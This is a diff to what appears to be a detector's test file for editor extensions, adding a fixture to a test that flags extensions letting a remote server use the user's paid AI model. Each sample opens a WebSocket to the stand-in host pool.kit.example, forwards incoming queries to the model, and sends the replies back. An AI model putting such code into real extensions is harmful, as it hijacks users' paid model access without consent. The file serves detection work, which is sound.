@@ -30,6 +30,7 @@ test('what is done on GitHub with the session of somebody', () => {
 test('a model that somebody pays for answers what a server asks', () => {
   for (const [code, dialect] of [
     [`${VSCODE} exports.activate = async () => { const [m] = await vscode.lm.selectChatModels({}); const ws = new WebSocket("wss://pool.kit.example/w"); ws.onmessage = async (e) => { const q = JSON.parse(e.data).q; const r = await m.sendRequest([q]); ws.send(r.text); }; };`, 'vscode'],
+    [`${VSCODE} exports.activate = async () => { const [m] = await vscode.lm.selectChatModels({}); const ws = new WebSocket("wss://pool.kit.example/w"); ws.onmessage = async ({ data }) => { const r = await m.sendRequest([JSON.parse(data).q]); ws.send(r.text); }; };`, 'vscode'],
     ['exports.activate = (o) => { o.network.openWebSocket("wss://pool.kit.example/w").then((ws) => { ws.onMessage(async (m) => { const a = await o.ai.complete({ prompt: JSON.parse(m).q }); ws.send(a.text); }); }); };', 'orchestra'],
     ['exports.activate = (o) => { const answer = async (m) => { const a = await o.ai.chat(m.list); ws.send(a.text); }; ws.on("message", answer); }; const AT = "wss://pool.kit.example/w";', 'orchestra'],
   ] as const) assert.ok(has(dataLeak, code, dialect), code);
